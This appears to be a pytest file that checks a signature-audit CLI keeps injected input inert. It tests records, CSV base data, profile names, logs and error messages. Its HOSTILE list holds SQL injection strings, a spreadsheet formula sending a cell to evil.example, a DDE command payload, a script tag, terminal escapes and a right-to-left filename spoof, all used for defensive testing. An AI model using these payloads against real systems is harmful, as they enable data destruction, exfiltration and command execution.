"""Injection attempts wherever others write: they change nothing, and what is wrong is reported."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
import yaml
from click.testing import CliRunner, Result
from tests.signatures import drills
from tests.signatures.applying import applied, contents

from opsproof.cli.main import cli, main
from opsproof.errors import ExitCode, OpsproofError
from opsproof.evidence.keys import Keys
from opsproof.signatures import simulate
from opsproof.signatures.database import make_engine
from opsproof.signatures.model import RecordClass
from opsproof.signatures.simulate import Drill

HOSTILE = (
    '\'; DROP TABLE "exam score"; --',
    "1' OR '1'='1",
    "\n'); DELETE FROM [exam score]\nGO\n--",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "\x1b]0;owned\x07\x1b[2J",
    "\u202egnp.exe",
    "[link=http://evil.example]rich[/link]",
)


def drill_of(folder: Path, url: str) -> Drill:
    return simulate.simulate(
        folder, drills.lab_of("ecdsa"), records=30, seed=2, url=url, damaged_percent=0
    )


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Drill:
    """For tests that change no record: each writes a profile of its own."""
    folder = tmp_path_factory.mktemp("shared")
    return drill_of(folder, f"sqlite:///{folder / 'records.db'}")


def put(drill: Drill, column: str, values: dict[int, str]) -> None:
    """What a business system under somebody else's hand would store."""
    engine = make_engine(drill.url)
    table = sa.table("exam score", *(sa.column(name) for name in drill.profile.columns))
    with engine.begin() as connection:
        if engine.dialect.name == "sqlite":
            connection.exec_driver_sql("BEGIN IMMEDIATE")
        for key, value in values.items():
            connection.execute(sa.update(table).where(table.c.id == key).values({column: value}))
    engine.dispose()


def invoke(drill: Drill, verb: str, *words: str) -> Result:
    folder = drill.folder
    options = ["--profile", "profile.yml", "--certificates", "signers.pem", "--trusted", "ca.pem"]
    options = [str(folder / one) if "." in one else one for one in options]
    options += ["--workers", "1"] if verb in ("analyse", "plan") else []
    options += ["--quiet"] if verb != "show" else []
    given = options if verb != "show" else []
    return CliRunner().invoke(
        cli,
        ["signatures", verb, *given, "--work", str(folder / "work"), *words],
        env={"OPSPROOF_DATABASE_URL": drill.url},
        standalone_mode=False,
    )


def assert_inert(text: str) -> None:
    """Nothing in it that a terminal obeys or that turns the direction of writing."""
    assert not [one for one in text if one != "\n" and not one.isprintable()]


@pytest.mark.parametrize("column", ["sign_value", "cert_serial", "note"])
def test_in_stored_cells(column: str, url: str, tmp_path: Path, keys: Keys) -> None:
    drill = drill_of(tmp_path, url)
    right = contents(drill)
    put(drill, column, dict(enumerate(HOSTILE, 1)))
    before = contents(drill)
    job, plan = drills.planned(drill)
    found = drills.found_by_key(job)
    assert set(found) == set(range(1, len(HOSTILE) + 1))
    result = applied(job, plan, keys, tmp_path / "work")
    after = contents(drill)
    if column == "note":  # data against the base data: the business system's matter, never written
        assert {one.record_class for one in found.values()} == {RecordClass.BASE_DIFFERS}
        assert after == before
        return
    assert result.written == len(HOSTILE)
    assert {key: row[:-3] for key, row in after.items()} == {
        key: row[:-3] for key, row in right.items()
    }
    _, analysis = drills.analysed(drill)
    assert analysis.classes[RecordClass.VALID] == 30


def test_in_base_data(tmp_path: Path) -> None:
    drill = drill_of(tmp_path, f"sqlite:///{tmp_path / 'records.db'}")
    base = tmp_path / "base.csv"
    with base.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    for row, text in zip(rows, HOSTILE, strict=False):
        row["name"] = text
    for row, text in zip(rows[len(HOSTILE) :], HOSTILE, strict=False):
        row["signature"], row["certificate"] = text, text
    rows += [rows[-1] | {"id": text} for text in HOSTILE]
    with base.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    before = (tmp_path / "records.db").read_bytes()
    planned = invoke(drill, "plan", "--base", str(base))
    assert planned.return_value == ExitCode.FINDINGS
    assert (tmp_path / "records.db").read_bytes() == before
    assert planned.stdout.count("id is not of type integer") == len(HOSTILE)
    assert f"{len(HOSTILE)} need somebody else" in planned.stdout
    assert_inert(planned.stdout)
    shown = invoke(drill, "show", "--class", "base-differs", "--format", "csv")
    assert len(list(csv.DictReader(io.StringIO(shown.stdout)))) == len(HOSTILE)
    assert_inert(shown.stdout)


@pytest.mark.parametrize("form", ["table", "csv"])
def test_in_keys_that_a_plan_shows(form: str, tmp_path: Path) -> None:
    """A key may be any text: spreadsheets and terminals get it as text only."""
    drill = drill_of(tmp_path, f"sqlite:///{tmp_path / 'records.db'}")
    put(drill, "ticket_no", dict(enumerate(HOSTILE, 1)))
    engine = make_engine(drill.url)
    with engine.connect() as connection:
        connection.exec_driver_sql('CREATE UNIQUE INDEX one ON "exam score" (ticket_no)')
    engine.dispose()
    path = tmp_path / "profile.yml"
    document = yaml.safe_load(path.read_text(encoding="utf-8")) | {"key": ["ticket_no"]}
    path.write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")
    assert invoke(drill, "plan").return_value == ExitCode.FINDINGS
    shown = invoke(drill, "show", "--format", form)
    assert_inert(shown.stdout)
    if form == "csv":
        cells = [cell for row in csv.reader(io.StringIO(shown.stdout)) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
        assert [cell for cell in cells if cell.startswith(("'=", "'@"))]
    else:
        assert "[link=http" in "".join(shown.stdout.split("│"))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("place", ["table", "key", "field", "signature", "schema"])
def test_in_names_of_a_profile(text: str, place: str, shared: Drill) -> None:
    drill = shared
    path = drill.folder / "profile.yml"
    document: dict[str, Any] = simulate.profile_document("ecdsa", "raw", "base64", "international")
    if place == "key":
        document["key"] = [text]
    elif place == "field":
        document["fields"][1]["column"] = text
    elif place == "signature":
        document["signature"]["column"] = text
    else:
        document["table"]["name" if place == "table" else "schema"] = text
    path.write_text(yaml.safe_dump(document), encoding="utf-8")
    before = (drill.folder / "records.db").read_bytes()
    refused = invoke(drill, "analyse").exception
    assert isinstance(refused, OpsproofError)
    assert_inert(str(refused))
    assert (drill.folder / "records.db").read_bytes() == before


def test_in_data_logs(tmp_path: Path) -> None:
    drill = drill_of(tmp_path, f"sqlite:///{tmp_path / 'records.db'}")
    texts = [text for text in HOSTILE if "\n" not in text]
    log = tmp_path / "\x1b[2Jx.log"
    log.write_text("".join(f"FAILED {text}\n" for text in texts), encoding="utf-8")
    patterns = tmp_path / "patterns.yml"
    patterns.write_text("- {kind: signing-failed, pattern: '^FAILED (?P<key>.*)$'}")
    before = (tmp_path / "records.db").read_bytes()
    words = ["--log", str(log), "--log-patterns", str(patterns)]
    printed = invoke(drill, "link", *words)
    assert printed.return_value == ExitCode.NOT_EVALUATED
    assert f"{len(texts)} not in the table" in printed.stdout
    assert_inert(printed.stdout)
    told = json.loads(invoke(drill, "link", *words, "--format", "json").stdout)
    assert len(told["items"]) == len(texts)
    assert not [text for text in texts if text in json.dumps(told, ensure_ascii=False)]
    assert (tmp_path / "records.db").read_bytes() == before


def test_in_what_an_error_repeats(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "argv", ["opsproof", "signatures", "show", "--work", "\x1b[2J\u202e"])
    with pytest.raises(SystemExit) as ended:
        main()
    assert ended.value.code == ExitCode.USAGE
    said = capsys.readouterr().err
    assert said.startswith("opsproof: \ufffd[2J\ufffd/plan.jsonl: there is no plan yet")
    assert_inert(said)
